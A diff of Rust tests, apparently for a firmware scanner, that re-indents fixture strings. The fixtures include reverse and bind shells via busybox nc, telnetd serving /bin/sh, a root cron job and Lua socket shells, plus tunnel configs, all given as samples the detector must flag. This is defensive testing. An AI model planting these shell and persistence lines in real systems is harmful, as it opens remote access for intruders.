@@ -35,17 +35,18 @@ fn applets_of_busybox_are_what_they_are_used_as() {
     };
     for (tree, rule, words) in [
         (
-            "/etc/inittab\n  ::respawn:/bin/busybox telnetd -F -l /bin/sh -p 2323\n",
+            "/etc/inittab\n    ::respawn:/bin/busybox telnetd -F -l /bin/sh -p 2323\n",
             "clear-text-login-server",
             "telnetd listens on tcp port 2323",
         ),
         (
-            "/etc/systemd/system/x.service\n  [Service]\n  ExecStart=/bin/busybox nc -ll -p 99 -e /bin/sh\n",
+            "/etc/systemd/system/x.service\n    [Service]\n    ExecStart=/bin/busybox nc -ll -p 99 -e /bin/sh\n    [Install]\n    WantedBy=multi-user.target\n\
+             /etc/systemd/system/multi-user.target.wants/x.service -> /etc/systemd/system/x.service\n",
             "service-opens-shell-to-network",
             "/bin/busybox nc",
         ),
         (
-            "/etc/crontabs/root\n  * * * * * busybox nc 198.51.100.7 99 -e /bin/sh\n",
+            "/etc/crontabs/root\n    * * * * * busybox nc 198.51.100.7 99 -e /bin/sh\n",
             "task-opens-shell-to-network",
             "busybox nc",
         ),
@@ -54,8 +55,8 @@ fn applets_of_busybox_are_what_they_are_used_as() {
         assert!(found.iter().any(|f| f.starts_with(rule) && f.contains(words)), "{tree}{found:#?}");
     }
     for tree in [
-        "/etc/inittab\n  ::respawn:/bin/busybox ntpd -n -p 198.51.100.7\n",
-        "/etc/inittab\n  ::sysinit:/bin/busybox mount -a\n  ::respawn:/bin/busybox syslogd -n\n",
+        "/etc/inittab\n    ::respawn:/bin/busybox ntpd -n -p 198.51.100.7\n",
+        "/etc/inittab\n    ::sysinit:/bin/busybox mount -a\n    ::respawn:/bin/busybox syslogd -n\n",
     ] {
         assert_eq!(high(tree), Vec::<String>::new(), "{tree}");
     }
@@ -86,18 +87,18 @@ fn programs_are_known_by_their_strings() {
 
 #[test]
 fn scripts_in_lua_are_known_by_what_they_do() {
-    let script = |text: &str| format!("/usr/lib/agent mode=755\n  #!/usr/bin/lua\n{text}");
+    let script = |text: &str| format!("/usr/lib/agent mode=755\n    #!/usr/bin/lua\n{text}");
     for text in [
-        "  local s = require('socket').tcp()\n  s:connect('198.51.100.7', 443)\n  os.execute('/bin/sh -i <&3 >&3 2>&3')\n",
-        "  local n = require \"nixio\"\n  local s = nixio.bind(nil, 99, \"inet\")\n  nixio.exec(\"/bin/sh\", \"-i\")\n",
+        "    local s = require('socket').tcp()\n    s:connect('198.51.100.7', 443)\n    os.execute('/bin/sh -i <&3 >&3 2>&3')\n",
+        "    local n = require \"nixio\"\n    local s = nixio.bind(nil, 99, \"inet\")\n    nixio.exec(\"/bin/sh\", \"-i\")\n",
     ] {
         let found = paths(&script(text));
         assert!(found.iter().any(|f| f.contains("a socket and a shell")), "{text}{found:#?}");
     }
     for text in [
-        "  local s = require('socket').tcp()\n  s:connect('198.51.100.7', 443)\n",
-        "  local sys = require 'luci.sys'\n  os.execute('/sbin/reload')\n",
-        "  -- require('socket') os.execute('/bin/sh')\n  print(1)\n",
+        "    local s = require('socket').tcp()\n    s:connect('198.51.100.7', 443)\n",
+        "    local sys = require 'luci.sys'\n    os.execute('/sbin/reload')\n",
+        "    -- require('socket') os.execute('/bin/sh')\n    print(1)\n",
     ] {
         assert_eq!(paths(&script(text)), Vec::<String>::new(), "{text}");
     }
@@ -118,8 +119,8 @@ fn a_program_of_rust_is_known_by_the_crates_that_its_messages_name() {
 }
 
 #[test]
-fn a_program_of_go_is_known_by_its_line_table_where_its_build_information_is_gone() {
-    // Build information as Go 1.18 writes it, and the names that its line table keeps.
+fn a_program_of_go_is_known_by_raw_bytes_without_sections() {
+    // Build information as Go 1.18 writes it.
     let with = |module: &str, magic: &str| {
         let list = format!("0123456789abcdefpath\t{module}/cmd/x\nmod\t{module}\tv0.1.0\th1:x=\n0123456789abcdef");
         let mut bytes = format!("all goroutines are asleep{}", "\0".repeat(7)).into_bytes();
@@ -143,18 +144,18 @@ fn a_program_of_go_is_known_by_its_line_table_where_its_build_information_is_gon
 fn settings_are_known_by_their_keys_in_any_file() {
     for (text, words) in [
         (
-            "  serverAddr = \"198.51.100.7\"\n  serverPort = 7000\n  [[proxies]]\n  name = \"a\"\n  type = \"tcp\"\n  localPort = 22\n  remotePort = 6000\n",
+            "    serverAddr = \"198.51.100.7\"\n    serverPort = 7000\n    [[proxies]]\n    name = \"a\"\n    type = \"tcp\"\n    localPort = 22\n    remotePort = 6000\n",
             "198.51.100.7",
         ),
         (
-            "  [Interface]\n  PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\n  Address = 10.9.0.2/32\n  [Peer]\n  PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n  AllowedIPs = 0.0.0.0/0\n  Endpoint = 198.51.100.7:51820\n",
+            "    [Interface]\n    PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\n    Address = 10.9.0.2/32\n    [Peer]\n    PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n    AllowedIPs = 0.0.0.0/0\n    Endpoint = 198.51.100.7:51820\n",
             "198.51.100.7",
         ),
     ] {
         let found = paths(&format!("/etc/odd/cache.dat\n{text}"));
         assert!(found.iter().any(|f| f.contains(words)), "{text}{found:#?}");
     }
-    assert_eq!(paths("/etc/odd/cache.dat\n  server = \"198.51.100.7\"\n  interval = 60\n"), Vec::<String>::new());
+    assert_eq!(paths("/etc/odd/cache.dat\n    server = \"198.51.100.7\"\n    interval = 60\n"), Vec::<String>::new());
 }
 
 #[test]
